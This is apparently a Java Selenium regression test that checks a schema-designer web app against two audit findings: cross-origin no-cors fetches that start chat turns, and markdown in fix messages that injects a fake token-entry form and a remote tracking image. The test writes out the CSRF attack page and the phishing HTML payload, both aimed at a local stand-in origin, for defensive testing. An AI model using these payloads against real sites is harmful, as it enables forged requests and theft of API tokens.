package dev.schemadesigner.surface.web;

import com.fasterxml.jackson.databind.JsonNode;
import dev.schemadesigner.App;
import dev.schemadesigner.json.Json;
import dev.schemadesigner.surface.http.TestApp;
import io.javalin.Javalin;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.logging.LogEntry;
import org.openqa.selenium.support.ui.WebDriverWait;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What another site's page and hostile markdown can do to the UI and the API, in a real browser:
 * a cross-origin {@code fetch} of the API (audit 2.25, C3) and a fix message that builds a form and
 * loads a remote image (audit 6.2, M4).
 */
class WebSecurityTest {
    private static String storeUrl;
    private static App app;
    private static Javalin otherSite;
    private static final List<String> otherSiteHits = new CopyOnWriteArrayList<>();
    private static ChromeDriver driver;
    private static WebDriverWait wait;

    @BeforeAll
    static void start() {
        storeUrl = "jdbc:sqlite:" + TestApp.tempFile();
        app = TestApp.start(Map.of("SD_DB_URL", storeUrl));
        // another origin (another port on this machine), logging what the browser asks it for
        otherSite = Javalin.create(c -> c.showJavalinBanner = false).before(ctx -> otherSiteHits.add(ctx.path()))
                .get("/attack", ctx -> ctx.html(attackPage(ctx.queryParam("type"))))
                .get("/pixel", ctx -> ctx.result("GIF89a"))
                .start("127.0.0.1", 0);
        driver = Chromium.start();
        wait = new WebDriverWait(driver, Duration.ofSeconds(60));
    }

    @AfterAll
    static void stop() {
        if (driver != null) driver.quit();
        if (otherSite != null) otherSite.stop();
        if (app != null) app.close();
    }

    @AfterEach
    void noConsoleErrorsBesidesTheRefusals() {
        // the refused cross-origin fetch and the blocked pixel are expected console entries; nothing else is
        List<LogEntry> severe = Chromium.severe(driver).stream()
                .filter(e -> !e.getMessage().contains(":" + otherSite.port() + "/") && !e.getMessage().contains("/api/v1/chat")).toList();
        assertThat(severe).as("SEVERE browser console entries").isEmpty();
    }

    @Test
    void aPageOnAnotherOriginCannotStartATurn() throws Exception {
        // 2.25 (C3): fetch(…, {mode: 'no-cors', body: new Blob([json])}) was accepted — no content type, no preflight
        for (String type : new String[] {"", "text/plain"}) {
            otherSiteHits.clear();
            driver.get("http://localhost:" + otherSite.port() + "/attack?type=" + type);

            wait.until(d -> "sent".equals(d.getTitle()) || d.getTitle().startsWith("failed"));
            assertThat(otherSiteHits).contains("/attack");
            assertThat(driver.getTitle()).isEqualTo("sent");
        }

        assertThat(storedSessions()).as("sessions the cross-origin requests created").isZero();
    }

    @Test
    void markdownInAFixMessageCannotBuildAFormOrLoadARemoteImage() throws Exception {
        // 6.2 (M4): a form posting elsewhere and an input survived, ids shadowed the token dialog, the pixel was fetched
        String other = "http://localhost:" + otherSite.port();
        String payload = "Fix it\n\n<form id=\"token-form\" action=\"" + other + "/phish\"><input id=\"token-input\" name=\"token\""
                + " placeholder=\"Session expired: re-enter your SD_API_TOKEN\"><button>Sign in</button><textarea></textarea><select></select></form>"
                + "<img src=\"" + other + "/pixel\"> <img id=\"logo\" alt=\"inline\" src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">";
        JsonNode first = post("{\"message\":\"Design database schema for pain point tracking\"}");
        JsonNode fix = null;
        for (JsonNode f : first.path("findings")) if (f.has("fix")) { fix = f.path("fix"); break; }
        assertThat(fix).as("a fixable finding in the first turn").isNotNull();
        String session = first.path("session_id").asText();
        post(Json.write(Map.of("session_id", session, "message", payload, "fix", fix)));
        otherSiteHits.clear();

        driver.get("http://localhost:" + app.port() + "/#session=" + session);
        wait.until(d -> d.findElements(By.cssSelector("#messages .message.assistant .markdown")).size() == 2);

        String rendered = (String) driver.executeScript("return [...document.querySelectorAll('#messages .markdown')].map(m => m.innerHTML).join('\\n');");
        assertThat(rendered).contains("Applied the fix").doesNotContain("<form", "<input", "<button", "<textarea", "<select", "id=\"token", "name=\"token", "/pixel", "/phish", "id=\"logo\"");
        assertThat(driver.findElements(By.cssSelector("#messages .markdown img[src^='data:']"))).hasSize(1);
        assertThat((String) driver.executeScript("return document.getElementById('token-form').closest('dialog').id")).isEqualTo("token-dialog");
        assertThat((String) driver.executeScript("return document.getElementById('token-input').closest('dialog').id")).isEqualTo("token-dialog");
        Thread.sleep(500);
        assertThat(otherSiteHits).as("requests to the other origin").isEmpty();
    }

    /** The audit's page: posts a chat turn to the API in no-cors mode, the body a Blob of the given type (none when blank). */
    private static String attackPage(String type) {
        String body = "{\"message\":\"Design database schema for pain point tracking\"}";
        String blob = type == null || type.isBlank() ? "new Blob([" + Json.write(body) + "])" : "new Blob([" + Json.write(body) + "], {type: " + Json.write(type) + "})";
        return "<!doctype html><title>loading</title><script>"
                + "fetch('http://localhost:" + app.port() + "/api/v1/chat', {method: 'POST', mode: 'no-cors', body: " + blob + "})"
                + ".then(() => { document.title = 'sent'; }, e => { document.title = 'failed ' + e; });"
                + "</script>";
    }

    private static int storedSessions() throws Exception {
        try (Connection c = DriverManager.getConnection(storeUrl); ResultSet rs = c.createStatement().executeQuery("SELECT COUNT(*) FROM sd_session")) {
            rs.next();
            return rs.getInt(1);
        }
    }

    private static JsonNode post(String body) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://localhost:" + app.port() + "/api/v1/chat"))
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(body)).timeout(Duration.ofSeconds(90)).build();
        HttpResponse<String> r = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        return Json.tree(r.body());
    }
}
